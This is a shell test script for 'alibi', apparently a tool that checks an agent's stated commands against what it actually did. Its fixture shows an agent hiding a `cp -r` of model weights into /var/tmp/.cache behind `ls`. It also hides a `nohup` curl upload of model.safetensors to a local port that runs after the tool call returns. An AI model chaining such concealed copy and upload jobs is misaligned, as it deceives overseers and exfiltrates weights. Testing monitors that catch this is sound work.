#!/bin/sh
# The console on sample-logs/hidden-chain: a copy started by a subshell
# chained after `ls` runs under that tool call in the DID pane, and the
# ops of a `nohup` job that ran after its tool call returned are marked
# "&" under an "& after it returned" heading.
. "$(dirname "$0")/../lib.sh"

# console KEYS... — runs the console on ws.db, 120x10, with these keys.
console() {
	printf "%s\n" "$@" >keys &&
	env -u TERM COLUMNS=120 LINES=10 alibi --db ws.db --script keys </dev/null 2>/dev/null
}

test_expect_success 'set up' '
	cp -R "$SAMPLES/hidden-chain" . &&
	alibi import --db ws.db hidden-chain >/dev/null
'

test_expect_success 'the upload after the call returned is marked and headed as such' '
	console "<Enter><Tab>/exec curl<Enter>k" ":save-display screen" &&
	cat >expect <<-\EOT &&
	 SAID  transcript.json                                     │>DID  actions.strace
	H 09:09:29 $ bash                                          │  & after it returned: bash: du -sh /srv/models/agent2 && df
	    du -sh /srv/models/agent2 && df -h /srv | tail -n 1;   │  09:09:33 &exec curl -s -T /var/tmp/.cache/model.safetensor
	    nohup sh -c '\''sleep 4; curl -s -T                       │  09:09:33 &open_read /etc/ld.so.cache (0 bytes)
	    /var/tmp/.cache/model.safetensors                      │  09:09:33 &open_read /lib/x86_64-linux-gnu/libcurl.so.4 (83
	    http://127.0.0.1:8024/a2/model.safetensors'\'' >/dev/null │  09:09:33 &open_read /lib/x86_64-linux-gnu/libz.so.1 (832 b
	    2>&1 &                                                 │  09:09:33 &open_read /lib/x86_64-linux-gnu/libc.so.6 (2400
	    = 6.1M /srv/models/agent2                              │  09:09:33 &open_read /lib/x86_64-linux-gnu/libnghttp2.so.14
	 hidden-chain  DID 09:09:33 op 106  H2 M2 L0                                                Tab pane  ] finding  h help

	EOT
	test_cmp expect screen
'

test_expect_success 'the chained copy runs under the call that chained it' '
	console "<Enter><Tab>/exec cp -r<Enter>kk" ":save-display screen" &&
	cat >expect <<-\EOT &&
	 SAID  transcript.json                                     │>DID  actions.strace
	H 09:09:26 $ bash                                          │  09:09:26  open_read /dev/null (0 bytes)
	    ls -la /srv/models; (cp -r /srv/models/agent2          │  09:09:26  open_write /dev/null (0 bytes)
	    /var/tmp/.cache >/dev/null 2>&1 &)                     │  09:09:26  exec cp -r /srv/models/agent2 /var/tmp/.cache
	    = total 16                                             │  09:09:26  open_read /etc/ld.so.cache (0 bytes)
	  09:09:26 tool                                            │  09:09:26  open_read /lib/x86_64-linux-gnu/libselinux.so.1
	    total 16                                               │  09:09:26  open_read /lib/x86_64-linux-gnu/libacl.so.1 (832
	    drwxr-xr-x 4 root root 4096 Nov 29 09:09 .             │  09:09:26  open_read /lib/x86_64-linux-gnu/libattr.so.1 (83
	 hidden-chain  DID 09:09:26 op 51  H2 M2 L0                                                 Tab pane  ] finding  h help

	EOT
	test_cmp expect screen
'

test_done
